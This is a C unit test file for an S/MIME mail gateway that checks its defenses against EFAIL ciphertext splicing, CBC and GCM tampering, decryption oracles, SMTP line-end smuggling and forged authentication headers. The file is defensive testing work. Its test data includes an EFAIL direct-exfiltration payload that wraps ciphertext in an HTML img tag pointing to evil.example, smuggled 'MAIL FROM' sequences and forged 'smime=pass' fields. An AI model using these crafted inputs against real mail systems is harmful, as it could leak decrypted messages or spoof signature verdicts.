/* SPDX-License-Identifier: ISC */
/*
 * Ciphertexts that were changed or spliced (EFAIL: CVE-2017-17688 and -17689),
 * what is inside of encryption, and fields that claim to be ours.
 */
#include <stdlib.h>
#include <string.h>

#include <openssl/cms.h>

#include "tests/unit/smime_forge.h"
#include "tests/unit/tap.h"

/* ---- below the root ---- */

static void
test_below_root(struct forge_people *p)
{
	struct buf mail, part, der;
	struct forge_answer a;

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&part, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	forge_signed_mail(p, "", &part);
	(void)buf_addf(&mail,
	    FORGE_FROM_ALICE
	    "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
	    "--mix\r\n\r\nevil\r\n--mix\r\n%s\r\n--mix--\r\n",
	    buf_text(&part));
	forge_is_verdict(p, &mail, "partial", "a signature below the root");

	(void)buf_addf(&mail,
	    FORGE_FROM_ALICE
	    "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
	    "--mix\r\n%s\r\n--mix--\r\n",
	    buf_text(&part));
	forge_is_verdict(p, &mail, "partial", "a signature in a wrapper alone");

	(void)buf_addf(&mail,
	    FORGE_FROM_ALICE
	    "Content-Type: message/rfc822\r\n\r\n" FORGE_FROM_ALICE "%s",
	    buf_text(&part));
	a = forge_open(p, buf_slice(&mail));
	ok(!forge_has(a.got, "smime=pass"), "a signed mail as the whole body");
	free(a.text);
	buf_reset(&mail);

	/* EFAIL, "direct exfiltration". */
	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_cbc(), &der);
	buf_reset(&part);
	forge_add_pkcs7(&part, buf_slice(&der));
	(void)buf_addf(&mail,
	    FORGE_FROM_ALICE
	    "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
	    "--mix\r\nContent-Type: text/html\r\n\r\n"
	    "<img src=\"http://evil.example/\r\n--mix\r\n%s\r\n"
	    "--mix\r\nContent-Type: text/html\r\n\r\n\">\r\n"
	    "--mix--\r\n",
	    buf_text(&part));
	a = forge_open(p, buf_slice(&mail));
	ok(!forge_has(a.got, "secret") && forge_has(a.got, "sig=partial"),
	    "ciphertext among other parts is not opened");
	free(a.text);
	buf_clear(&mail);
	buf_clear(&part);
	buf_clear(&der);
}

/* ---- changed ciphertext ---- */

/* An octet of the ciphertext, so far from the end of the CMS. */
static void
flip(struct buf *der, size_t from_end)
{
	der->p[der->n - from_end] ^= 1;
}

static void
test_cbc(struct forge_people *p)
{
	struct buf mail, der, signature, inside;
	struct forge_answer a;

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	buf_init(&signature, FORGE_MAIL_MAX);
	buf_init(&inside, FORGE_MAIL_MAX);

	forge_sign(slice_of(forge_entity), p->alice, NULL, CMS_DETACHED,
	    EVP_sha256(), &signature);
	forge_add_signed(&inside, slice_of(forge_entity), buf_slice(&signature),
	    FORGE_SIGNATURE_TYPE);
	forge_encrypt(buf_slice(&inside), p->bob, EVP_aes_256_cbc(), &der);
	forge_encrypted_mail(&mail, buf_slice(&der));
	forge_is_verdict(p, &mail, "pass", "signed, then encrypted by CBC");

	/* Within the text: behind the front of the multipart. */
	flip(&der, inside.n - 220);
	forge_encrypted_mail(&mail, buf_slice(&der));
	a = forge_open(p, buf_slice(&mail));
	is_int(a.outcome, SIGNED_HOLD, "the same with a changed block is held");
	ok(!forge_has(a.got, "goes on for a while"),
	    "and nothing of the text gets out");
	ok(forge_has(a.got, "application/pkcs7-mime") &&
		forge_has(a.got, "sig=fail"),
	    "what is kept is the mail as it came, with the verdict");
	free(a.text);

	buf_reset(&der);
	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_cbc(), &der);
	flip(&der, strlen(forge_entity));
	forge_encrypted_mail(&mail, buf_slice(&der));
	a = forge_open(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && forge_has(a.got, "sig=undecryptable") &&
		!forge_has(a.got, "goes on"),
	    "a changed first block is no mail any more");
	free(a.text);

	buf_reset(&der);
	forge_encrypt(SLICE("evil octets without a header\r\n\r\n"), p->bob,
	    EVP_aes_256_cbc(), &der);
	forge_encrypted_mail(&mail, buf_slice(&der));
	a = forge_open(p, buf_slice(&mail));
	ok(!forge_has(a.got, "evil octets"),
	    "CBC of what is no mail stays closed");
	free(a.text);

	buf_clear(&mail);
	buf_clear(&der);
	buf_clear(&signature);
	buf_clear(&inside);
}

/* What is said of each failure, so that they can be compared. */
static void
add_reason(struct forge_people *p, struct buf *der, struct buf *words)
{
	struct buf mail;
	struct forge_answer a;
	char *at;

	buf_init(&mail, FORGE_MAIL_MAX);
	forge_encrypted_mail(&mail, buf_slice(der));
	a = forge_open(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && forge_has(a.got, "sig=undecryptable") &&
		!forge_has(a.got, "secret"),
	    "changed ciphertext is not decrypted");
	at = strstr(a.text, "Subject:");
	if (at != NULL)
		*at = '\0';
	(void)buf_add_text(words, a.text);
	(void)buf_add_char(words, '|');
	free(a.text);
	buf_clear(&mail);
}

static void
test_gcm(struct forge_people *p)
{
	static const size_t tag_octets = 16;
	struct buf der, changed, words;
	char *key;
	size_t n;

	buf_init(&der, FORGE_MAIL_MAX);
	buf_init(&changed, FORGE_MAIL_MAX);
	buf_init(&words, FORGE_MAIL_MAX);
	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_gcm(), &der);

	(void)buf_add_slice(&changed, buf_slice(&der));
	flip(&changed, 1);
	add_reason(p, &changed, &words);
	n = words.n;

	buf_reset(&changed);
	(void)buf_add_slice(&changed, buf_slice(&der));
	flip(&changed, tag_octets + 20);
	add_reason(p, &changed, &words);

	/* The encrypted key: 256 octets behind this head. */
	buf_reset(&changed);
	(void)buf_add_slice(&changed, buf_slice(&der));
	key = memmem(changed.p, changed.n, "\x04\x82\x01\x00", 4);
	if (key == NULL)
		bug("no encrypted key");
	key[100] ^= 1;
	add_reason(p, &changed, &words);
	is_u64(words.n, 3 * n, "all of them are answered at equal length");
	ok(memcmp(words.p, words.p + n, n) == 0 &&
		memcmp(words.p, words.p + 2 * n, n) == 0,
	    "and in the same words: no oracle");
	buf_clear(&der);
	buf_clear(&changed);
	buf_clear(&words);
}

/* ---- what must not reach OpenSSL's decryption ---- */

static void
is_refused(struct forge_people *p, struct buf *der, const char *label)
{
	struct buf mail;
	struct forge_answer a;

	buf_init(&mail, FORGE_MAIL_MAX);
	forge_encrypted_mail(&mail, buf_slice(der));
	a = forge_open(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && !forge_has(a.got, "secret") &&
		forge_has(a.got, "application/pkcs7-mime"),
	    "%s: not opened", label);
	free(a.text);
	buf_clear(&mail);
	buf_reset(der);
}

static void
test_unusual(struct forge_people *p)
{
	unsigned char password[] = "secret word";
	STACK_OF(X509) *readers = sk_X509_new_null();
	CMS_ContentInfo *cms;
	struct buf der;
	char *tag;
	BIO *in;

	buf_init(&der, FORGE_MAIL_MAX);
	(void)sk_X509_push(readers, p->bob->cert);
	forge_encrypt(
	    slice_of(forge_entity), p->bob, EVP_camellia_256_cbc(), &der);
	is_refused(p, &der, "an unusual cipher");

	in = BIO_new_mem_buf(forge_entity, -1);
	cms = CMS_encrypt(
	    readers, in, EVP_aes_256_cbc(), CMS_PARTIAL | CMS_BINARY);
	if (cms == NULL ||
	    CMS_add0_recipient_password(cms, -1, NID_undef, NID_undef,
		(unsigned char *)OPENSSL_strdup((char *)password), -1,
		NULL) == NULL ||
	    CMS_final(cms, in, NULL, CMS_BINARY) != 1)
		bug("no password recipient");
	BIO_free(in);
	sk_X509_free(readers);
	forge_add_der(cms, &der);
	is_refused(p, &der, "a password beside the key");

	/* The length of the tag, behind the nonce: 16 becomes 4. */
	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_gcm(), &der);
	tag = memmem(der.p, der.n, "\x02\x01\x10", 3);
	if (tag == NULL)
		bug("no length of a tag");
	tag[2] = 4;
	is_refused(p, &der, "a tag of four octets");

	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_cbc(), &der);
	der.n -= 5;
	is_refused(p, &der, "a CMS that is cut off");

	forge_encrypt(slice_of(forge_entity), p->bob, EVP_aes_256_cbc(), &der);
	(void)buf_add_text(&der, "more");
	is_refused(p, &der, "a CMS with something behind it");
	buf_clear(&der);
}

static void
test_opaque(struct forge_people *p)
{
	struct buf mail, der;
	struct forge_answer a;
	char *at;

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	forge_sign(
	    slice_of(forge_entity), p->alice, NULL, 0, EVP_sha256(), &der);
	at = memmem(der.p, der.n, "secret", 6);
	if (at == NULL)
		bug("no content");
	memcpy(at, "public", 6);
	forge_encrypted_mail(&mail, buf_slice(&der));
	a = forge_open(p, buf_slice(&mail));
	ok(forge_has(a.got, "sig=fail") && !forge_has(a.got, "public") &&
		forge_has(a.got, "application/pkcs7-mime"),
	    "a changed opaque signature stays closed");
	free(a.text);
	buf_reset(&der);
	forge_sign(slice_of(forge_entity), p->alice, NULL, CMS_DETACHED,
	    EVP_sha256(), &der);
	forge_encrypted_mail(&mail, buf_slice(&der));
	forge_is_verdict(
	    p, &mail, "fail", "an opaque signature without its content");
	buf_clear(&mail);
	buf_clear(&der);
}

/* ---- what is inside ---- */

static void
deliver(struct forge_people *p, struct slice inside, struct forge_answer *a_r)
{
	struct buf mail, der;

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	forge_encrypt(inside, p->bob, EVP_aes_256_gcm(), &der);
	forge_encrypted_mail(&mail, buf_slice(&der));
	*a_r = forge_open(p, buf_slice(&mail));
	buf_clear(&mail);
	buf_clear(&der);
}

static void
test_inside(struct forge_people *p)
{
	struct forge_answer a;

	deliver(p,
	    SLICE("Content-Type: text/plain\r\n\r\na\n.\nMAIL FROM:<x>\r\nb\r"),
	    &a);
	ok(a.outcome == SIGNED_DONE && !world_has_bare_line_end(a.got) &&
		forge_has(a.got, "\r\nContent-Transfer-Encoding: base64\r\n"),
	    "a bare LF that was encrypted does not end lines further on");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: multipart/signed; boundary=b\r\n\r\n"
		  "--b\r\n\r\na\n.\nMAIL FROM:<x>\r\n--b\r\n\r\n--b--\r\n"),
	    &a);
	ok(a.outcome == SIGNED_DONE && !world_has_bare_line_end(a.got),
	    "not even within what must not be touched");
	free(a.text);

	deliver(
	    p, SLICE("Content-Type: text/plain\n\nsome text\nby Unix\n"), &a);
	ok(forge_has(a.got, "some text\r\nby Unix\r\n"),
	    "lines by Unix throughout are made lines");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain\r\n"
		  "Authentication-Results: gw.example.net; smime=pass\r\n"
		  "X-Postern-Crypto: v=1; sig=pass\r\nX-Evil: yes\r\n\r\n"
		  "text\r\n"),
	    &a);
	ok(forge_has(a.got, "text\r\n") && !forge_has(a.got, "sig=pass") &&
		!forge_has(a.got, "smime=pass") && !forge_has(a.got, "X-Evil"),
	    "fields that were inside claim nothing");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain; hp=\"cipher\"\r\n"
		  "Subject: inner\nX-Evil: yes\r\nFrom: x@evil.example\r\n\r\n"
		  "text\r\n"),
	    &a);
	ok(!forge_has(a.got, "X-Evil") && !forge_has(a.got, "x@evil.example"),
	    "nor are protected ones more than one field each");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain; protected-headers=\"v1\"\r\n"
		  "Subject: inner\r\nTo: x@evil.example\r\n\r\ntext\r\n"),
	    &a);
	ok(forge_has(a.got, "Subject: inner\r\n") &&
		!forge_has(a.got, "x@evil"),
	    "the old form protects the subject alone");
	free(a.text);
}

/* Line ends that only the way onwards makes: as the reader will see them. */
static void
test_line_ends(struct forge_people *p)
{
	static const char *const hidden[] = {
	    "\n--sig\nContent-Type: text/html\n\n<b>evil</b>\n",
	    "\r--sig\rContent-Type: text/html\r\r<b>evil</b>\r"};
	struct buf mail, part;
	struct forge_answer a;
	size_t at;

	deliver(p,
	    SLICE("Content-Type: text/plain\r\nContent-Evil: yes\n"
		  "Authentication-Results: gw.example.net; smime=pass\r\n\r\n"
		  "text\r\n"),
	    &a);
	ok(forge_has(a.got, "text\r\n") && !forge_has(a.got, "smime=pass"),
	    "a bare LF within a field that was inside hides no other");
	free(a.text);

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&part, FORGE_MAIL_MAX);
	forge_signed_mail(p, "", &part);
	at = (size_t)((char *)memmem(part.p, part.n, "\r\n\r\n--sig", 9) -
		      part.p) +
	     4;
	for (size_t i = 0; i < 2; i++) {
		buf_reset(&mail);
		(void)buf_add(&mail, part.p, at);
		(void)buf_add_text(&mail, hidden[i]);
		(void)buf_add_text(&mail, "\r\n");
		(void)buf_add(&mail, part.p + at, part.n - at);
		deliver(p, buf_slice(&mail), &a);
		ok(!forge_has(a.got, "smime=pass"),
		    "nor a part before the one that is signed (%zu)", i);
		free(a.text);
	}
	buf_reset(&mail);
	(void)buf_add(&mail, part.p, at);
	(void)buf_add(&mail, "-\0-sig\r\n\r\nevil\r\n", 16);
	(void)buf_add(&mail, part.p + at, part.n - at);
	deliver(p, buf_slice(&mail), &a);
	ok(!forge_has(a.got, "smime=pass"), "nor does a NUL");
	free(a.text);
	buf_clear(&mail);
	buf_clear(&part);
}

static void
test_protected_from(struct forge_people *p)
{
	static const char inner[] =
	    "Content-Type: text/plain; hp=\"clear\"\r\n"
	    "From: eve@evil.example\r\nSubject: s\r\n\r\ntext\r\n";
	struct buf mail, der;

	buf_init(&mail, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	forge_sign(
	    slice_of(inner), p->alice, NULL, CMS_DETACHED, EVP_sha256(), &der);
	(void)buf_add_text(&mail, FORGE_FROM_ALICE);
	forge_add_signed(
	    &mail, slice_of(inner), buf_slice(&der), FORGE_SIGNATURE_TYPE);
	{
		struct forge_answer a = forge_open(p, buf_slice(&mail));

		ok(forge_has(a.got, "sig=mismatch") &&
			forge_has(a.got, FORGE_FROM_ALICE),
		    "a protected From that differs is a mismatch");
		free(a.text);
	}
	buf_clear(&mail);
	buf_clear(&der);
}

static void
test_forged_fields(struct forge_people *p)
{
	struct forge_answer a;

	a = forge_open(p,
	    SLICE("Authentication-Results: gw.example.net; smime=pass\r\n"
		  "Authentication-Results: (x) \"GW.example.net\" 1;\r\n"
		  " smime=pass\r\n"
		  "Authentication-Results: other.example; dkim=pass\r\n"
		  "X-Postern-Crypto: v=1; sig=pass\r\n"
		  "x-postern-anything: yes\r\n" FORGE_FROM_ALICE
		  "Subject: =?utf-8?Q?=5Bsigned=5D_hello?= [SIG[signed]NED]\r\n"
		  "\r\ntext\r\n"));
	is_str(a.text,
	    "Authentication-Results: other.example; "
	    "dkim=pass\r\n" FORGE_FROM_ALICE "Subject: hello\r\n\r\ntext\r\n",
	    "forged results, fields and tags are taken out");
	free(a.text);
}

static void
test_layers(struct forge_people *p)
{
	struct buf inside, der, mail;
	struct forge_answer a;

	buf_init(&inside, FORGE_MAIL_MAX);
	buf_init(&der, FORGE_MAIL_MAX);
	buf_init(&mail, FORGE_MAIL_MAX);
	(void)buf_add_text(&inside, forge_entity);
	for (int i = 0; i < 6; i++) {
		buf_reset(&der);
		forge_encrypt(
		    buf_slice(&inside), p->bob, EVP_aes_256_gcm(), &der);
		buf_reset(&inside);
		forge_add_pkcs7(&inside, buf_slice(&der));
		if (i == 3) {
			forge_encrypted_mail(&mail, buf_slice(&der));
			a = forge_open(p, buf_slice(&mail));
			ok(forge_has(a.got, "it is secret"),
			    "four layers are opened");
			free(a.text);
		}
	}
	forge_encrypted_mail(&mail, buf_slice(&der));
	a = forge_open(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && !forge_has(a.got, "it is secret"),
	    "six are not");
	free(a.text);
	buf_clear(&inside);
	buf_clear(&der);
	buf_clear(&mail);
}

int
main(void)
{
	struct forge_people p = forge_people_new();

	test_below_root(&p);
	test_cbc(&p);
	test_gcm(&p);
	test_unusual(&p);
	test_opaque(&p);
	test_inside(&p);
	test_line_ends(&p);
	test_protected_from(&p);
	test_forged_fields(&p);
	test_layers(&p);
	forge_people_free(&p);
	return tap_done();
}
